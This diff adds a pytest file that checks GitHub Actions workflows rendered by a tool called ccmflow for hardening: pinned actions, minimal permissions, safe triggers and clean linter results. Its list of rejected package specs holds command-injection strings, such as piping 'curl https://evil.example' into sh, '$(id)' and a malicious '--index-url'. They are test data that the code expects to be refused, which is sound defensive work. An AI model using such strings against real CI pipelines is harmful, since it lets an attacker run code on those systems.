@@ -1,0 +1,260 @@
+"""Tests for the rendered GitHub Actions workflows and the pull request template."""
+
+from __future__ import annotations
+
+import re
+import shutil
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+from ruamel.yaml import YAML
+
+from ccmflow.workflows import (
+    PR_TEMPLATE_PATH,
+    WORKFLOW_NAMES,
+    WORKFLOWS_DIR,
+    check_package_spec,
+    render_pr_template,
+    render_workflows,
+)
+
+REPO = Path(__file__).resolve().parent.parent
+GIT_SPEC = "git+https://github.com/example/ccmflow@0123456789abcdef0123456789abcdef01234567"
+SPECS = [".", "ccmflow==0.1.0", GIT_SPEC]
+SHA_PIN = re.compile(r"^[\w.-]+/[\w./-]+@[0-9a-f]{40}$")
+USES_LINE = re.compile(r"^\s*(?:- )?uses:\s*(\S+)\s*(?:#\s*(\S+))?\s*$")
+REGENERATE = "regenerate with: python -m ccmflow.workflows . ."
+
+
+def _load(text: str) -> dict[str, Any]:
+    # ruamel's safe loader is YAML 1.2, so the `on:` key stays the string "on"
+    # (PyYAML's YAML 1.1 loader would turn it into True).
+    data = YAML(typ="safe", pure=True).load(text)
+    assert isinstance(data, dict)
+    return data
+
+
+def _steps(workflow: dict[str, Any]) -> list[dict[str, Any]]:
+    return [step for job in workflow["jobs"].values() for step in job.get("steps", [])]
+
+
+def _all_rendered() -> list[tuple[str, str, str]]:
+    return [(spec, path, text) for spec in SPECS for path, text in render_workflows(spec).items()]
+
+
+RENDERED = _all_rendered()
+RENDERED_IDS = [f"{spec}:{Path(path).name}" for spec, path, _ in RENDERED]
+
+
+# (a) this repository runs exactly what ccmflow renders for "."
+
+
+def test_repository_workflows_are_rendered_for_dot() -> None:
+    rendered = render_workflows(".")
+    assert sorted(rendered) == sorted(f"{WORKFLOWS_DIR}/{name}" for name in WORKFLOW_NAMES)
+    for path, text in rendered.items():
+        on_disk = REPO / path
+        assert on_disk.is_file(), f"{path} is missing; {REGENERATE}"
+        assert on_disk.read_bytes() == text.encode("utf-8"), f"{path} differs from its template; {REGENERATE}"
+    stale = {p.name for p in (REPO / WORKFLOWS_DIR).glob("ccmflow-*.y*ml")} - set(WORKFLOW_NAMES)
+    assert not stale, f"workflows no longer rendered by ccmflow: {sorted(stale)}"
+
+
+def test_repository_pr_template_is_the_rendered_one() -> None:
+    on_disk = REPO / PR_TEMPLATE_PATH
+    assert on_disk.read_bytes() == render_pr_template().encode("utf-8"), REGENERATE
+
+
+def test_pr_template_says_what_a_delegation_needs() -> None:
+    text = render_pr_template()
+    for needle in ("documents/", "ccmflow new-id", "id:", "GitHub receives", "Delegation", "bot"):
+        assert needle in text
+    assert "id: new" not in text
+
+
+# (b) the package spec cannot inject anything
+
+
+@pytest.mark.parametrize("spec", [*SPECS, "./vendor/ccmflow", "ccmflow==0.1.0+local.1"])
+def test_good_specs_are_installed_verbatim(spec: str) -> None:
+    assert check_package_spec(spec) == spec
+    for path, text in render_workflows(spec).items():
+        installs = [s["run"] for s in _steps(_load(text)) if "pip install" in s.get("run", "")]
+        assert installs == [f"python -m pip install {spec}"], path
+
+
+BAD_SPECS = [
+    "",
+    "ccmflow==0.1.0\n",
+    ".\nrun: curl evil | sh",
+    "ccmflow==0.1.0\r",
+    ". && curl https://evil.example | sh",
+    "ccmflow;id",
+    "ccmflow|id",
+    "ccmflow&id",
+    "$(id)",
+    "`id`",
+    "${{ github.event.comment.body }}",
+    "ccmflow #comment",
+    "ccmflow#x",
+    "'ccmflow'",
+    '"ccmflow"',
+    "ccmflow>=0.1",
+    "ccmflow<1",
+    "ccmflow~=0.1",
+    "ccmflow[test]",
+    "ccmflow*",
+    "--index-url=https://evil.example/simple",
+    "-e.",
+    "ccmflow\t",
+    " ccmflow",
+    "ccmflow\x00",
+    "ccmflow\u2028",
+    "a" * 301,
+]
+
+
+@pytest.mark.parametrize("spec", BAD_SPECS)
+def test_bad_specs_are_rejected(spec: str) -> None:
+    with pytest.raises(ValueError):
+        render_workflows(spec)
+
+
+# (c) the security rules, on the text ccmflow renders
+
+
+@pytest.mark.parametrize(("spec", "path", "text"), RENDERED, ids=RENDERED_IDS)
+def test_top_level_permissions_are_empty_and_jobs_are_bounded(spec: str, path: str, text: str) -> None:
+    workflow = _load(text)
+    assert workflow["permissions"] == {}, path
+    assert workflow["concurrency"]["cancel-in-progress"] is False
+    assert "${{" in workflow["concurrency"]["group"]
+    for name, job in workflow["jobs"].items():
+        assert isinstance(job.get("permissions"), dict) and job["permissions"], f"{path}: {name}"
+        assert set(job["permissions"].values()) <= {"read", "write"}
+        assert isinstance(job.get("timeout-minutes"), int), f"{path}: {name}"
+
+
+@pytest.mark.parametrize(("spec", "path", "text"), RENDERED, ids=RENDERED_IDS)
+def test_every_uses_is_pinned_to_a_full_sha_with_a_version_comment(spec: str, path: str, text: str) -> None:
+    uses = [s["uses"] for s in _steps(_load(text)) if "uses" in s]
+    assert uses, path
+    assert all(SHA_PIN.match(u) for u in uses), uses
+    for line in text.splitlines():
+        if re.match(r"^\s*(- )?uses:", line):
+            match = USES_LINE.match(line)
+            assert match and match.group(2) and re.fullmatch(r"v\d+(\.\d+)*", match.group(2)), line
+
+
+@pytest.mark.parametrize(("spec", "path", "text"), RENDERED, ids=RENDERED_IDS)
+def test_no_expression_inside_run(spec: str, path: str, text: str) -> None:
+    for step in _steps(_load(text)):
+        if "run" in step:
+            assert "${{" not in step["run"], step
+
+
+@pytest.mark.parametrize(("spec", "path", "text"), RENDERED, ids=RENDERED_IDS)
+def test_checkout_and_python(spec: str, path: str, text: str) -> None:
+    steps = _steps(_load(text))
+    checkouts = [s for s in steps if s.get("uses", "").startswith("actions/checkout@")]
+    assert checkouts, path
+    for step in checkouts:
+        assert step["with"]["persist-credentials"] is False
+        assert step["with"]["fetch-depth"] == 0
+        assert "ref" not in step["with"], "check out the default ref (the base), never the PR head"
+    for step in steps:
+        if step.get("uses", "").startswith("actions/setup-python@"):
+            major, minor = (int(x) for x in str(step["with"]["python-version"]).split(".")[:2])
+            assert (major, minor) >= (3, 11)
+            assert "cache" not in step["with"]
+
+
+def test_triggers_and_conditions() -> None:
+    workflows = {Path(p).name: _load(t) for p, t in render_workflows(".").items()}
+    triage = workflows["ccmflow-triage.yml"]
+    assert set(triage["on"]) == {"pull_request_target"}
+    assert set(triage["on"]["pull_request_target"]["types"]) == {
+        "opened",
+        "synchronize",
+        "reopened",
+        "edited",
+        "ready_for_review",
+        "closed",
+    }
+    for step in _steps(triage):
+        assert "cache" not in step.get("uses", ""), "no caching under pull_request_target"
+        assert "cache" not in (step.get("with") or {})
+    commands = workflows["ccmflow-commands.yml"]
+    assert commands["on"]["issue_comment"]["types"] == ["created"]
+    for job in commands["jobs"].values():
+        assert job["if"].startswith("startsWith(github.event.comment.body, '/ccmflow')")
+    maintenance = workflows["ccmflow-maintenance.yml"]
+    assert {"push", "workflow_dispatch", "schedule"} <= set(maintenance["on"])
+    (job,) = maintenance["jobs"].values()
+    assert job["permissions"]["contents"] == "write"
+    for name in ("ccmflow-triage.yml", "ccmflow-commands.yml"):
+        for job in workflows[name]["jobs"].values():
+            assert job["permissions"]["contents"] == "read"
+
+
+@pytest.mark.parametrize(("spec", "path", "text"), RENDERED, ids=RENDERED_IDS)
+def test_only_suppression_is_dangerous_triggers_on_the_trigger(spec: str, path: str, text: str) -> None:
+    for line in text.splitlines():
+        if "zizmor:" in line:
+            assert re.match(
+                r"^  (pull_request_target|issue_comment):  # zizmor: ignore\[dangerous-triggers\] \S.*$", line
+            ), line
+
+
+# (d) the real linters, on what a process repository would get
+
+
+def _tool(name: str) -> str:
+    beside_python = Path(sys.executable).parent / name
+    found = str(beside_python) if beside_python.exists() else shutil.which(name)
+    if found is None:
+        pytest.skip(f"{name} is not installed (pip install -e '.[test]')")
+    return found
+
+
+def _write(tmp_path: Path, spec: str) -> list[Path]:
+    root = tmp_path / re.sub(r"\W+", "_", spec)
+    paths = []
+    for relative, text in render_workflows(spec).items():
+        path = root / relative
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+        paths.append(path)
+    return paths
+
+
+@pytest.mark.parametrize("spec", [".", "ccmflow==0.1.0"])
+def test_check_jsonschema_accepts_rendered_workflows(tmp_path: Path, spec: str) -> None:
+    tool = _tool("check-jsonschema")
+    files = _write(tmp_path, spec)
+    result = subprocess.run(
+        [tool, "--builtin-schema", "vendor.github-workflows", *map(str, files)],
+        capture_output=True,
+        text=True,
+        timeout=300,
+        check=False,
+    )
+    assert result.returncode == 0, result.stdout + result.stderr
+
+
+@pytest.mark.parametrize("spec", [".", "ccmflow==0.1.0"])
+def test_zizmor_finds_nothing_in_rendered_workflows(tmp_path: Path, spec: str) -> None:
+    tool = _tool("zizmor")
+    files = _write(tmp_path, spec)
+    for persona in ("regular", "pedantic"):
+        result = subprocess.run(
+            [tool, "--offline", f"--persona={persona}", "--no-progress", *map(str, files)],
+            capture_output=True,
+            text=True,
+            timeout=300,
+            check=False,
+        )
+        assert result.returncode == 0, result.stdout + result.stderr
